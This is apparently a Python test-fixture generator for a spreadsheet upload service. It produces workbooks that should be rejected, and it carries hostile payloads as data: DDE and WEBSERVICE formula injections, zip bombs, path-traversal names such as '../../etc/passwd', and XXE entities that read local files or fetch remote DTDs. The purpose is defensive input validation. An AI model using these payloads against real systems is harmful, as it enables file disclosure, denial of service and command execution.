"""Spreadsheets made to do harm, as many as asked for, the same for the same seed. Each must be refused.

Every file begins as the template with one good row on each sheet; a kind changes one thing of it, drawn at random.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import cache

from openpyxl import load_workbook

from bluelight.service.contributions.workbook import MOST_ROWS, SHEETS, template

Parts = dict[str, bytes]
GOOD: dict[str, list[object]] = {
    "Collaborations": ["A yard for two", "shared-estate", "Wales", 2019, "live", "2024-05", "One yard."],
    "Partners": ["A yard for two", "Littleham Council", "local-authority", "Littleham"],
    "Claims": [
        *("A yard for two", "benefit", "Rent is saved.", "cashable", "forecast", "saving", 9000, 9500, "GBP"),
        *("per year", "Littleham Council", "https://example.org/yard", "2024"),
    ],
    "Lessons": ["A yard for two", "lesson", "Ask the neighbours."],
    "Sources": ["A yard for two", "https://example.org/yard", "The plan", "Littleham", "2024", "Rent"],
}
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"Look")',
    'WEBSERVICE("http://example.org/"&A1)',
    "DDE(&quot;cmd&quot;,&quot;/C calc&quot;)",
    "INDIRECT(A1)",
    "A2",
    "[1]Sheet1!A1",
    "IMPORTXML(A1)",
)
# For each column that takes more than words, what it cannot take.
_WRONG: dict[str, dict[str, tuple[object, ...]]] = {
    "Collaborations": {
        "name": ("", "x" * 201, "  "),
        "theme": (7, "gardening", "shared estate!", 1.5),
        "region": (1, "Atlantis", "wales, england"),
        "start_year": ("soon", 1066, 9999, 2019.5, -1, "1e9", "2019-05", "二〇一九", "0x7e3"),
        "status": (3, "alive", "LIVE!"),
        "status_as_of": ("May", "2024-13", "31/05/2024", 20240531, "2024-5", "yesterday", "-2024"),
        "summary": ("", "x" * 20_001, "bad \x07 bell"),
    },
    "Partners": {"service": (1, "circus", "polic"), "organisation": ("", "x" * 201), "area": ("x" * 121,)},
    "Claims": {
        "side": (1, "both", "benefits and costs"),
        "statement": ("", "x" * 20_001),
        "kind": (9, "magic"),
        "state": (0, "hoped", "forcast"),
        "amount": ("nine", "1e999", "NaN", "Infinity", "9,5,0", "£9", "0x9", "9\u202e0"),
        "amount_max": ("much", 1, -9000, "-Infinity"),
        "unit": ("x" * 81,),
        "period": ("x" * 121,),
        "partner": ("Nobody", 5),
        "source_url": ("javascript:alert(1)", "ftp://example.org/x", "example.org", "//example.org", "http://"),
        "as_of": ("May", "2024-00", "24"),
    },
    "Lessons": {"kind": (1, "moral"), "text": ("", "x" * 20_001)},
    "Sources": {
        "url": ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://a b/", "", 8, "HTTP:/x"),
        "title": ("", "x" * 301),
        "published": ("May", "2024-02-32", 2.5),
    },
}


@cache
def _good() -> Parts:
    book = load_workbook(io.BytesIO(template()))
    for sheet, cells in GOOD.items():
        book[sheet].append(cells)
    file = io.BytesIO()
    book.save(file)
    with zipfile.ZipFile(file) as made:
        return {name: made.read(name) for name in made.namelist()}


def _book(rows: dict[str, list[list[object]]]) -> bytes:
    book = load_workbook(io.BytesIO(template()))
    for sheet, lines in rows.items():
        for line in lines:
            book[sheet].append(line)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def zipped(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method, compresslevel=1) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return file.getvalue()


def _sheet(rng: random.Random) -> tuple[str, str]:
    """A sheet by name, and its part."""
    number = rng.randrange(len(SHEETS))
    return list(SHEETS)[number], f"xl/worksheets/sheet{number + 1}.xml"


def _cell(rng: random.Random, cell: Callable[[str], str]) -> bytes:
    """The workbook with the cell of one column of the good row replaced."""
    sheet, part = _sheet(rng)
    return _with_cell(part, rng.randrange(len(SHEETS[sheet])), cell)


def _with_cell(part: str, column: int, cell: Callable[[str], str]) -> bytes:
    text = _good()[part].decode()
    at = f"{chr(65 + column)}2"
    begin = text.index(f'<c r="{at}"')
    ends = [text.find(mark, begin) + len(mark) for mark in ("</c>", "/>") if text.find(mark, begin) > 0]
    closed = text.index("</c>", begin) + 4 if "</c>" in text[begin:] else min(ends)
    return zipped(_good() | {part: (text[:begin] + cell(at) + text[closed:]).encode()})


def formula(rng: random.Random) -> bytes:
    """A cell that works something out, or would run something."""
    said = rng.choice(_FORMULAS).replace("&", "&amp;").replace("&amp;quot;", "&quot;")
    kind = rng.choice(["", ' t="shared" si="0" ref="A2:A9"', ' t="array" ref="A2"'])
    return _cell(rng, lambda at: f'<c r="{at}" t="str"><f{kind}>{said}</f><v>{rng.randrange(99)}</v></c>')


def formula_in_words(rng: random.Random) -> bytes:
    """A text that a spreadsheet would run."""
    said = "=" + rng.choice(_FORMULAS).replace("&", "&amp;").replace("<", "&lt;")
    return _cell(rng, lambda at: f'<c r="{at}" t="inlineStr"><is><t>{said}</t></is></c>')


def wrong_kind_of_cell(rng: random.Random) -> bytes:
    """True and false, an error, a number that is none, a text that is not there, a cell that is nowhere."""
    cells = (
        '<c r="{at}" t="b"><v>1</v></c>',
        '<c r="{at}" t="e"><v>#REF!</v></c>',
        '<c r="{at}" t="e"><v>#N/A</v></c>',
        '<c r="{at}" t="n"><v>nine</v></c>',
        '<c r="{at}" t="s"><v>99999</v></c>',
        '<c r="{at}" t="s"><v>-99999</v></c>',
        '<c r="ZZZZZZ9" t="n"><v>1</v></c>',
        '<c r="{at}" t="d"><v>the fifth of May</v></c>',
    )
    cell = rng.choice(cells)
    return _cell(rng, lambda at: cell.format(at=at))


def wrong_value(rng: random.Random) -> bytes:
    """A value that its column cannot take."""
    sheet = rng.choice(list(_WRONG))
    column = rng.choice(list(_WRONG[sheet]))
    value = rng.choice(_WRONG[sheet][column])
    place = SHEETS[sheet].index(column)
    part = f"xl/worksheets/sheet{list(SHEETS).index(sheet) + 1}.xml"
    if isinstance(value, str):
        said = value.replace("&", "&amp;").replace("<", "&lt;").replace("\x07", "_x0007_")
        return _with_cell(part, place, lambda at: f'<c r="{at}" t="inlineStr"><is><t>{said}</t></is></c>')
    return _with_cell(part, place, lambda at: f'<c r="{at}" t="n"><v>{value}</v></c>')


def bomb(rng: random.Random) -> bytes:
    """A few bytes that unpack to many: in one part or in several."""
    parts = rng.choice([1, 2, 5])
    size = rng.choice([26, 30, 40, 60]) * 1_000_000 // parts
    names = [f"xl/worksheets/sheet{n}.xml" for n in range(1, parts + 1)]
    return zipped(_good() | dict.fromkeys(names, rng.choice([b" ", b"\0", b"<a/>"]) * size))


def lying_bomb(rng: random.Random) -> bytes:
    """A part that is far longer than the table of contents says."""
    size = rng.choice([5, 20, 50]) * 1_000_000
    made = bytearray(zipped(_good() | {"xl/theme/theme1.xml": b" " * size}))
    for _ in range(made.count(struct.pack("<L", size))):
        at = made.index(struct.pack("<L", size))
        made[at : at + 4] = struct.pack("<L", rng.randrange(1, 2000))
    return bytes(made)


def packed_strangely(rng: random.Random) -> bytes:
    """Packed by a method whose bombs are worse."""
    method = rng.choice([zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
    return zipped(_good() | {"xl/styles.xml": b" " * rng.randrange(1, 3_000_000)}, method)


def many_parts(rng: random.Random) -> bytes:
    """More parts than a workbook has."""
    return zipped(_good() | {f"xl/parts/{n}.xml": b"" for n in range(rng.randrange(101, 1500))})


def more_than_cells(rng: random.Random) -> bytes:
    """Macros, links, queries, embedded files."""
    name = rng.choice(
        [
            "xl/vbaProject.bin",
            "xl/externalLinks/externalLink1.xml",
            "xl/embeddings/oleObject1.bin",
            "xl/activeX/activeX1.xml",
            "xl/connections.xml",
            "xl/queryTables/queryTable1.xml",
            "XL/VBAPROJECT.BIN",
        ]
    )
    return zipped(_good() | {name: rng.randbytes(rng.randrange(200))})


def parts_astray(rng: random.Random) -> bytes:
    """A part outside of the container, or two under one name."""
    name = rng.choice(["../../etc/passwd", "/etc/passwd", "..\\..\\x.xml", "xl/../../x.xml", "XL/WORKBOOK.XML"])
    return zipped(_good() | {name: b"<x/>"})


def entities(rng: random.Random) -> bytes:
    """A document type, with entities that multiply or fetch."""
    inside = rng.choice(
        [
            '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">',
            '<!ENTITY a SYSTEM "file:///etc/passwd">',
            '<!ENTITY % a SYSTEM "http://127.0.0.1:9/x.dtd"> %a;',
            "",
        ]
    )
    code = rng.choice(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"])
    text = f'<?xml version="1.0"?><!DOCTYPE x [{inside}]><x>1</x>'
    return zipped(_good() | {rng.choice(_xml()): text.encode(code)})


def _xml() -> list[str]:
    return [name for name in _good() if name.endswith(".xml")]


def other_encodings(rng: random.Random) -> bytes:
    """Text in an encoding that is not the one it says, or that no workbook is in."""
    _, part = _sheet(rng)
    text = _good()[part].decode()
    said, code = rng.choice(
        [
            ("utf-8", "utf-32"),
            ("utf-7", "utf-8"),
            ("shift_jis", "utf-8"),
            ("cp037", "cp037"),
            ("iso-8859-1", "utf-8"),
            ("utf-8", "utf-16-le"),
            ("x-user-defined", "utf-8"),
        ]
    )
    if rng.random() < 0.4:  # a letter of another encoding amid UTF-8
        return zipped(
            _good() | {part: text.encode().replace(b"</row>", rng.choice([b"\xe9", b"\xff\xfe"]) + b"</row>")}
        )
    return zipped(_good() | {part: f'<?xml version="1.0" encoding="{said}"?>{text}'.encode(code)})


def torn(rng: random.Random) -> bytes:
    """A file of which the end is missing."""
    whole = zipped(_good())
    return whole[: rng.randrange(len(whole) - 30)]


def torn_inside(rng: random.Random) -> bytes:
    """A sheet that breaks off, or is no XML."""
    _, part = _sheet(rng)
    text = _good()[part]
    return zipped(_good() | {part: rng.choice([text[: rng.randrange(len(text) - 12)], b"", rng.randbytes(300), b"{}"])})


def something_else(rng: random.Random) -> bytes:
    """A file of another kind under the name of a workbook."""
    start = rng.choice(
        [
            b"",
            b"%PDF-1.7\n",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"\x89PNG\r\n\x1a\n",
            b"\x1f\x8b\x08",
            b"PK\x03\x04",
            b"PK\x05\x06" + bytes(18),
            b"7z\xbc\xaf\x27\x1c",
            b"<html><table><tr><td>name",
            "name;thème\n".encode("utf-16"),
            b"name,theme\n",
            b"\xef\xbb\xbf{}",
        ]
    )
    if rng.random() < 0.2:
        return zipped({"readme.txt": rng.randbytes(99), "nested.zip": zipped(_good())})
    return start + rng.randbytes(rng.randrange(0, 4000)) if start else b""


def with_password(rng: random.Random) -> bytes:
    """A zip that says it is encrypted."""
    made = bytearray(zipped(_good()))
    at = made.index(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def too_large(rng: random.Random) -> bytes:
    """More bytes than are taken: cut off while they arrive, or refused by their count."""
    return zipped(_good()) + bytes(rng.choice([5_000_001, 5_900_000, 6_500_000, 9_000_000]))


def other_columns(rng: random.Random) -> bytes:
    """A column under another name, or a sheet that is missing."""
    sheet, _ = _sheet(rng)
    book = load_workbook(io.BytesIO(template()))
    if rng.random() < 0.3:
        del book[sheet]
    else:
        book[sheet].cell(1, rng.randrange(len(SHEETS[sheet])) + 1).value = rng.choice(["something", None, 3, "=A2"])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def too_many_rows(rng: random.Random) -> bytes:
    """Rows beyond the last that is read, next to the others or far down."""
    _, part = _sheet(rng)
    row = rng.choice([MOST_ROWS + 1, MOST_ROWS + 5, 50_000, 1_048_576])
    far = f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>A yard for two</t></is></c></row></sheetData>'
    return zipped(_good() | {part: _good()[part].replace(b"</sheetData>", far.encode())})


def belongs_to_nothing(rng: random.Random) -> bytes:
    """Rows of a collaboration that the first sheet has not, or has twice; or no collaboration at all."""
    sheet = rng.choice(list(SHEETS))
    if sheet == "Collaborations":
        return _book({sheet: [GOOD[sheet], GOOD[sheet]]}) if rng.random() < 0.5 else _book({})
    return _book({"Collaborations": [GOOD["Collaborations"]], sheet: [["Nobody's", *GOOD[sheet][1:]]]})


def deep(rng: random.Random) -> bytes:
    """Elements within elements, without end."""
    _, part = _sheet(rng)
    depth = rng.choice([1_000, 50_000, 300_000])
    return zipped(_good() | {part: b"<a>" * depth + (b"</a>" * depth if rng.random() < 0.5 else b"")})


KINDS: tuple[Callable[[random.Random], bytes], ...] = (
    formula,
    formula_in_words,
    wrong_kind_of_cell,
    wrong_value,
    wrong_value,
    bomb,
    lying_bomb,
    packed_strangely,
    many_parts,
    more_than_cells,
    parts_astray,
    entities,
    other_encodings,
    torn,
    torn_inside,
    something_else,
    with_password,
    too_large,
    other_columns,
    too_many_rows,
    belongs_to_nothing,
    deep,
)


def hostile_files(count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """So many files with the name of their kind, kind after kind, no two drawn alike."""
    for number in range(count):
        kind = KINDS[number % len(KINDS)]
        yield kind.__name__, kind(random.Random(f"{seed} {number}"))
